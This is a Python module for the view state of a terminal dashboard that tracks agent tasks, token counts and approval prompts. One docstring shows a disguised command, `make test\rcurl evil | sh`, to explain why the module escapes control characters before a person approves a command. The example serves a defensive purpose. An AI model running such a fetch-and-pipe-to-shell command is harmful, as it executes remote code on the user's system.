"""The dashboard's view state over the client mirror: visible rows, token totals, counts (no Textual)."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from operator import attrgetter, countOf

from core.mirror import Mirror
from core.model import EDIT, BlockedReason, Prompt, Task, TaskStatus, Verdict
from core.text import printable
from tui.rows import RowIndex, Rows, Walk

STATUS_ORDER: tuple[TaskStatus, ...] = (
    TaskStatus.QUEUED,
    TaskStatus.IN_PROGRESS,
    TaskStatus.BLOCKED,
    TaskStatus.FINISHED,
    TaskStatus.FAILED,
)
"""Order in which statuses are counted and shown."""

STATUS_LABELS: dict[TaskStatus, str] = {
    TaskStatus.QUEUED: "queued",
    TaskStatus.IN_PROGRESS: "running",
    TaskStatus.BLOCKED: "blocked",
    TaskStatus.FINISHED: "done",
    TaskStatus.FAILED: "failed",
}
"""Short words for the status bar and detail pane."""


TAB_SIZE = 4
"""Columns of a tab stop: a tab in a command or a diff is drawn as spaces."""


def shown(text: str) -> str:
    """Text from the daemon as the dashboard draws it: line breaks kept, tabs as spaces,
    every other control or bidi character a visible escape (`\\r`, `\\x1b`, `\\u202e`).

    Drawn raw, a carriage return or an escape sequence in a question is obeyed by the
    terminal: `make test\\rcurl evil | sh` could read as `make test` right where it is
    approved. A tab is layout, not a disguise, and reads better as the spaces it stands for.
    """
    return "\n".join(
        # tab stops counted on the line as drawn, escapes and all
        "\t".join(map(printable, line.removesuffix("\r").split("\t"))).expandtabs(TAB_SIZE)
        for line in text.split("\n")
    )


def shown_line(text: str) -> str:
    """`shown` on one line: each run of spaces and line breaks becomes one space."""
    return " ".join(shown(text).split())


def is_asking(task: Task) -> bool:
    """True when the task waits on a person's answer (the only blocked state one can answer)."""
    return (
        task.status is TaskStatus.BLOCKED
        and task.blocked_reason is BlockedReason.PROMPT
        and task.blocked_on is not None
    )


def verdict_of(task: Task, answer: str) -> Verdict | None:
    """What `answer` would decide for the question the task asks, by `Prompt.verdict`'s rule."""
    if task.blocked_on is None:
        return None
    blocked = task.blocked_on
    return Prompt(id=blocked.prompt_id, task_id=task.id, question=blocked.question,
                  choices=blocked.choices, answer=answer).verdict


REPLY_SHOWN = 60
"""Characters of a free-text reply quoted in a notice."""


def answer_notice(prompt: Prompt, sent: str) -> str:
    """One line on what an answer the daemon accepted decided: a free reply never reads as approved."""
    answer = prompt.answer if prompt.answer is not None else sent
    verdict = prompt.verdict
    if verdict is Verdict.APPROVED:
        if prompt.choices and answer != prompt.choices[0]:
            return f"answered #{prompt.task_id}: chose “{answer}”"  # e.g. a branch, a region
        return f"approved #{prompt.task_id}: {answer}"
    if verdict is Verdict.DENIED:
        reason = f" ({prompt.reason})" if prompt.reason else ""
        return f"denied #{prompt.task_id}: {answer}{reason}"
    quoted = clip(" ".join(answer.split()), REPLY_SHOWN)
    return f"replied to #{prompt.task_id}: “{quoted}” (sent as a reply, not an approval)"


def by_rule(prompt: Prompt) -> bool:
    """True when an approval rule answered the prompt (`answered_by` "rule 3", "rules 1, 4")."""
    return re.fullmatch(r"rules? \d+(, \d+)*", prompt.answered_by or "") is not None


def answer_line(prompt: Prompt) -> tuple[str, str]:
    """How the detail pane shows an answer: text and colour (a reply in no colour of its own).

    A rule's answer reads as its reason: "approved by rule 3: Bash(npm test *)"."""
    answer = prompt.answer or ""
    verdict = prompt.verdict
    if by_rule(prompt) and prompt.reason:
        return f"    → {prompt.reason}", "$error" if verdict is Verdict.DENIED else "$success"
    if verdict is Verdict.REPLIED:
        return f"    ↩ replied “{answer}”", ""
    text = f"    → {answer}"
    if prompt.reason:
        text += f" ({prompt.reason})"
    return text, "$error" if verdict is Verdict.DENIED else "$success"


def format_elapsed(seconds: float) -> str:
    """Seconds as a compact duration: 7s, 3m05s, 2h04m, 3d02h."""
    s = max(0, int(seconds))
    if s < 60:
        return f"{s}s"
    m, s = divmod(s, 60)
    if m < 60:
        return f"{m}m{s:02d}s"
    h, m = divmod(m, 60)
    if h < 24:
        return f"{h}h{m:02d}m"
    d, h = divmod(h, 24)
    return f"{d}d{h:02d}h"


def format_tokens(count: int) -> str:
    """A token count in at most five cells: 812, 12.4k, 3.1M."""
    if count < 1000:
        return str(count)
    if count < 100_000:
        return f"{count / 1000:.1f}k"
    if count < 1_000_000:
        return f"{count // 1000}k"
    return f"{count / 1_000_000:.1f}M"


def elapsed_of(task: Task, now: float) -> float:
    """How long the task has run (or waited, if queued), up to its end."""
    start = task.started_at if task.started_at is not None else task.created_at
    end = task.ended_at if task.ended_at is not None else now
    return end - start


def clip(text: str, limit: int) -> str:
    """The text cut to at most `limit` characters, an ellipsis marking the cut."""
    if limit <= 0:
        return ""
    return text if len(text) <= limit else text[: limit - 1] + "…"


def denial_choice(choices: Sequence[str]) -> str | None:
    """The choice `d` sends: the one that refuses, by `Prompt.verdict`'s rule (None: `d`
    does not answer, e.g. "us" / "eu" / "asia", or "approve" / "edit")."""
    return Prompt.denial_among(list(choices))


def approval_choice(choices: Sequence[str]) -> str | None:
    """The choice an allow rule answers with: the first that `Prompt.judge` counts as an
    approval, never `EDIT` (which asks for an edited input); None when none approves
    (e.g. "no" / "cancel")."""
    listed = list(choices)
    return next((c for c in listed
                 if c != EDIT and Prompt.judge(listed, c) is Verdict.APPROVED), None)


def offers_denial(choices: Sequence[str]) -> bool:
    """Whether `d` answers: some choice refuses."""
    return denial_choice(choices) is not None


def numbers_shown(choices: Sequence[str]) -> bool:
    """Whether the number keys are spelled out: some choice has neither `a` nor `d`."""
    denial = denial_choice(choices)
    return len(choices) > (2 if denial is not None and denial != choices[0] else 1)


def choice_hint(choices: list[str]) -> str:
    """The keys that answer a prompt, e.g. "[a]pprove [d]eny [r]eply"."""

    def keyed(key: str, word: str) -> str:
        if word[:1].lower() == key:
            return f"[{key}]{word[1:]}"
        return f"[{key}] {word}"

    parts = [keyed("a", shown_line(choices[0]))]
    if offers_denial(choices):
        parts.append(keyed("d", shown_line(denial_choice(choices) or "")))
    if numbers_shown(choices):
        parts.append(f"[1-{min(len(choices), 9)}]")
    parts.append("[r]eply")
    return " ".join(parts)


def short_hint(choices: list[str]) -> str:
    """The answer keys in a few cells, for narrow rows: "[a/d/r]"."""
    keys = ["a"]
    if offers_denial(choices):
        keys.append("d")
    if numbers_shown(choices):
        keys.append(f"1-{min(len(choices), 9)}")
    keys.append("r")
    return "[" + "/".join(keys) + "]"


class SubtreeTokens:
    """Tokens of a task plus all its descendants, summed when first asked, then kept current.

    Only rows on screen and the highlighted task ask: summing all 100,000 at start was
    ~0.1 s of a first paint that draws 40. Sums are taken over the tasks as the view last
    folded them in (not the mirror, which runs up to a frame ahead), so a change's delta,
    added to every ancestor summed so far (O(depth)), is never counted twice. An eviction
    forgets every sum.
    """

    def __init__(self, mirror: Mirror, known: dict[int, Task]) -> None:
        self._mirror = mirror
        self._children = mirror.children
        self._known = known
        self._sums: dict[int, int] = {}

    def get(self, task_id: int, default: int = 0) -> int:
        """The subtree's tokens; `default` for a task the view does not know."""
        total = self._sums.get(task_id)
        if total is None:
            known = self._known
            if task_id not in known:
                return default
            total = 0
            stack = [task_id]
            while stack:
                current = stack.pop()
                task = known.get(current)
                if task is not None:  # one the mirror holds and the view not yet: added later
                    total += task.tokens
                    stack.extend(self._children.get(current, ()))
            self._sums[task_id] = total
        return total

    def add(self, task_id: int | None, delta: int) -> None:
        """`delta` more tokens spent at this task: every sum that holds it moves."""
        sums = self._sums
        known = self._known
        tasks = self._mirror.tasks
        while task_id is not None:
            if task_id in sums:
                sums[task_id] += delta
            # A parent new in the same batch may not be folded in yet: the mirror has it.
            task = known.get(task_id) or tasks.get(task_id)
            task_id = task.parent_id if task is not None else None

    def forget(self) -> None:
        """Drop every sum (the tree's shape changed under them)."""
        self._sums.clear()


class TreeView:
    """Which tasks show as rows and in what order, plus per-task subtree token totals.

    Built from the mirror; `apply(ids)` folds in a batch of changed task ids and
    says whether the row list must be rebuilt (a task appeared, left, or changed
    in a way the current filter cares about). Status counts and the token total are
    kept incrementally, so a batch costs O(changed x depth), not O(tasks); rows and
    subtree totals are made when read (`tui.rows`), so a start costs what the screen shows.
    """

    def __init__(self, mirror: Mirror) -> None:
        self.mirror = mirror
        self.collapsed: set[int] = set()
        """Tasks whose children are folded away."""
        self.hide_finished = False
        """Hide ended tasks whose whole subtree has ended."""
        self.filter_text = ""
        """Show only tasks whose id, agent, status or description contain this (and their
        ancestors), matched against the text as drawn (`shown`)."""
        self._shown: set[int] | None = None
        """Under a filter or hide-finished, the tasks that pass (and their ancestors)."""
        self._known: dict[int, Task] = dict(mirror.tasks)
        """Each task as last folded in (the mirror replaces tasks, never changes them). Rows
        and sums are made from these: the mirror runs up to a frame ahead of the view."""
        self._walk = Walk([], self._kids, self.collapsed, 0, self._parent_of)
        self.rows: Rows = Rows(self._walk)
        self.index: RowIndex = RowIndex(self._walk, self._has_row)
        """Row index by task id, for visible tasks."""
        self.subtree = SubtreeTokens(mirror, self._known)
        """Tokens of each task plus all its descendants."""
        self.counts: dict[TaskStatus, int] = {s: 0 for s in STATUS_ORDER}
        self.total_tokens = 0
        self._orphans: set[int] = set()
        """Tasks whose parent was evicted while they stayed (the mirror forgets the
        parent's children list); a snapshot's orphans are found by its children index."""

    # ------------------------------------------------------------- updates

    def reset(self) -> None:
        """Recompute everything from the mirror (after a snapshot).

        Counts and totals are taken in C loops (`map`, `countOf`): ~8 ms for 100,000 tasks.
        """
        tasks = self.mirror.tasks
        self._known = dict(tasks)
        self._orphans = set()
        self.subtree = SubtreeTokens(self.mirror, self._known)
        statuses = list(map(attrgetter("status"), tasks.values()))
        self.counts = {s: countOf(statuses, s) for s in STATUS_ORDER}
        self.total_tokens = (sum(map(attrgetter("prompt_tokens"), tasks.values()))
                             + sum(map(attrgetter("completion_tokens"), tasks.values())))
        self.collapsed.intersection_update([i for i in self.collapsed if i in tasks])
        self.rebuild()

    def apply(self, task_ids: Iterable[int]) -> bool:
        """Fold changed tasks into totals and counts.

        Returns:
            True when the visible rows must be rebuilt.
        """
        tasks = self.mirror.tasks
        known = self._known
        created: list[int] = []
        reshaped = False
        evicted: set[int] = set()
        filtering = bool(self.filter_text) or self.hide_finished
        for task_id in task_ids:
            task = tasks.get(task_id)
            seen = known.get(task_id)
            if task is None:
                if seen is not None:  # evicted
                    del known[task_id]
                    self.counts[seen.status] -= 1
                    self.total_tokens -= seen.tokens
                    self.collapsed.discard(task_id)
                    evicted.add(task_id)
                continue
            known[task_id] = task
            own = task.tokens
            if seen is None:
                self.counts[task.status] += 1
                self.total_tokens += own
                self.subtree.add(task.parent_id, own)
                created.append(task_id)
                if task.parent_id is not None and task.parent_id not in tasks:
                    self._orphans.add(task_id)  # its parent went before a frame showed it
                continue
            if seen.status is not task.status:
                self.counts[seen.status] -= 1
                self.counts[task.status] += 1
                if filtering:
                    reshaped = True
            if own != seen.tokens:
                self.total_tokens += own - seen.tokens
                self.subtree.add(task_id, own - seen.tokens)
        if evicted:
            self.subtree.forget()
            # O(tasks), as every eviction's rebuild used to be; evictions come seldom.
            self._orphans |= {i for i, t in known.items() if t.parent_id in evicted}
        if evicted or reshaped or (created and filtering):
            self.rebuild()
        elif created:
            self._grow(sorted(created))
        return bool(evicted or reshaped or created)

    # ---------------------------------------------------------------- rows

    def matches(self, task: Task) -> bool:
        """True when the task passes the hide-finished switch and the filter text by itself."""
        if self.filter_text:
            needle = self.filter_text.lower()
            hay = f"#{task.id} {task.agent} {task.status.value} {task.description}".lower()
            if task.blocked_on is not None:
                hay += " " + task.blocked_on.question.lower()
                if task.blocked_on.summary:
                    hay += " " + task.blocked_on.summary.lower()
            if needle not in shown(hay):  # the text as drawn: `\r` finds a carriage return
                return False
        return True

    def rebuild(self) -> None:
        """Start the visible rows afresh; they are built as they are read.

        Under a filter, which tasks pass is decided here for every task (O(tasks));
        otherwise this costs O(roots).
        """
        tasks = self._known
        children = self.mirror.children
        shown: set[int] | None = None
        if self.filter_text or self.hide_finished:
            shown = set()
            for task_id in sorted(tasks, reverse=True):
                task = tasks[task_id]
                keep = task_id in shown  # a descendant is shown
                if not keep:
                    if self.hide_finished and task.status.is_ended:
                        keep = False
                    else:
                        keep = self.matches(task)
                if keep:
                    shown.add(task_id)
                    if task.parent_id in tasks:  # not the parent an orphan lost
                        shown.add(task.parent_id)
        self._shown = shown
        roots = self._visible(children.get(None, []))
        # Tasks whose parent left the mirror are shown as roots.
        self._orphans &= tasks.keys()
        orphans = [
            i for parent in children if parent is not None and parent not in tasks
            for i in self._visible(children[parent])
        ] + self._visible(list(self._orphans))
        if orphans:
            roots = sorted(set(roots) | set(orphans))
        self._walk = Walk(roots, self._kids, self.collapsed, self._count_rows(), self._parent_of)
        self.rows = Rows(self._walk)
        self.index = RowIndex(self._walk, self._has_row)

    def _visible(self, ids: list[int]) -> list[int]:
        shown = self._known if self._shown is None else self._shown
        return [i for i in ids if i in shown]

    def _kids(self, task_id: int) -> list[int]:
        """The task's children that have rows when it is unfolded."""
        kids = self.mirror.children.get(task_id)
        return self._visible(kids) if kids else []

    def _parent_of(self, task_id: int) -> int | None:
        task = self._known.get(task_id)
        return task.parent_id if task is not None else None

    def _folded_under(self, task_id: int) -> bool:
        """True when an ancestor of the task is folded."""
        tasks = self._known
        task = tasks.get(task_id)
        while task is not None and task.parent_id is not None:
            if task.parent_id in self.collapsed:
                return True
            task = tasks.get(task.parent_id)
        return False

    def _has_row(self, task_id: int) -> bool:
        """True when the task is shown and no ancestor of it is folded (O(depth))."""
        if task_id not in (self._known if self._shown is None else self._shown):
            return False
        return not self._folded_under(task_id)

    def _count_rows(self) -> int:
        """How many rows there are: the tasks shown, less those under folds.

        Only folded subtrees are walked, so a start with nothing folded costs nothing.
        """
        total = len(self._known if self._shown is None else self._shown)
        for task_id in self.collapsed:
            if self._has_row(task_id):
                total -= self._hidden_under(task_id)
        return total

    def _hidden_under(self, task_id: int, *, open_only: bool = False) -> int:
        """Rows a fold of this task hides: its shown descendants (with `open_only`, those
        not under a fold of their own)."""
        hidden = 0
        stack = self._kids(task_id)
        while stack:
            hidden += 1
            kid = stack.pop()
            if not (open_only and kid in self.collapsed):
                stack.extend(self._kids(kid))
        return hidden

    def _grow(self, created: list[int]) -> None:
        """Give new tasks rows without a new walk: the rows before the first parent that
        gained a child stay, and a new root goes at the end.

        A new task in a daemon of 100,000 cost every row's rebuild; now it costs the rows
        from its parent to the cursor (none for a new root).
        """
        walk = self._walk
        cut: int | None = None
        added = 0
        for task_id in created:  # ids rise: a parent comes before its children
            parent = self._known[task_id].parent_id
            if parent is None or parent not in self._known:
                walk.add_root(task_id)
                added += 1
                continue
            if not self._has_row(parent):
                continue  # under a fold: no row changes
            at = walk.at.get(parent)
            if at is not None:  # its row (and its last child's guide) changes
                cut = at if cut is None else min(cut, at)
            if parent not in self.collapsed:
                added += 1
        if cut is None:
            walk.total += added
        elif not walk.restart_at(cut, walk.total + added):
            self.rebuild()

    def fold(self, task_id: int) -> None:
        """Fold a task's descendants away: the rows after it are dropped, to be built when read.

        Folding the first of 10,000 tasks cost a rebuild of every row (~12 ms); keeping
        the rows before it and walking on from it costs the rows read next.
        """
        at = self.index.get(task_id) if task_id not in self.collapsed else None
        self.collapsed.add(task_id)
        if at is None:
            return
        row = self.rows[at]
        if not row.has_children:
            return
        if not self._walk.restart_at(at, len(self.rows) - self._hidden_under(task_id,
                                                                            open_only=True)):
            self.rebuild()

    def unfold(self, task_id: int) -> None:
        """Show a folded task's descendants again: the rows from it on are built when read."""
        at = self.index.get(task_id) if task_id in self.collapsed else None
        self.collapsed.discard(task_id)
        if at is None:
            return
        row = self.rows[at]
        if not row.collapsed:
            return
        if not self._walk.restart_at(at, len(self.rows) + self._hidden_under(task_id,
                                                                            open_only=True)):
            self.rebuild()

    # ------------------------------------------------------------ queries

    def live_in_subtree(self, task_id: int, *, only: bool = False) -> int:
        """How many tasks an abort of this task (or its subtree) would stop."""
        tasks = self.mirror.tasks
        ids = [task_id] if only else self.mirror.subtree_ids(task_id)
        return sum(1 for i in ids if i in tasks and not tasks[i].status.is_ended)

    def path_of(self, task_id: int) -> list[Task]:
        """The task's ancestors then the task itself, root first."""
        task = self.mirror.tasks.get(task_id)
        if task is None:
            return []
        return [*self.mirror.ancestors(task_id), task]

    def reveal(self, task_ids: Iterable[int]) -> None:
        """Give these tasks rows: unfold their ancestors, and drop a filter that hides one."""
        wanted = [i for i in task_ids if i in self.mirror.tasks]
        if any(i not in self._known for i in wanted):
            # New since the last frame: fold in every new task now, in id order, as the
            # frame would (one alone would lose a new parent, or jump ahead of a new root).
            # O(tasks), on a key press that finds a task just created.
            self.apply(sorted(i for i in self.mirror.tasks if i not in self._known))
        changed = False
        for task_id in wanted:
            for ancestor in self.mirror.ancestors(task_id):
                if ancestor.id in self.collapsed:
                    self.collapsed.discard(ancestor.id)
                    changed = True
        if changed:
            self.rebuild()
        if any(task_id not in self.index for task_id in wanted):
            if any(task_id not in self.index and not self.matches(self.mirror.tasks[task_id])
                   for task_id in wanted):
                self.filter_text = ""
            self.rebuild()

    def next_asking(self, after: int | None) -> int | None:
        """The next task (in row order, cycling) that waits on a person, expanding folds to show it."""
        asking = sorted(
            (p.task_id for p in self.mirror.prompts.values()
             if p.task_id in self.mirror.tasks and is_asking(self.mirror.tasks[p.task_id])),
        )
        if not asking:
            return None
        self.reveal(asking)
        ordered = sorted(asking, key=lambda i: self.index.get(i, 0))
        if after is None or after not in self.index:
            return ordered[0]
        here = self.index[after]
        for task_id in ordered:
            if self.index.get(task_id, -1) > here:
                return task_id
        return ordered[0]
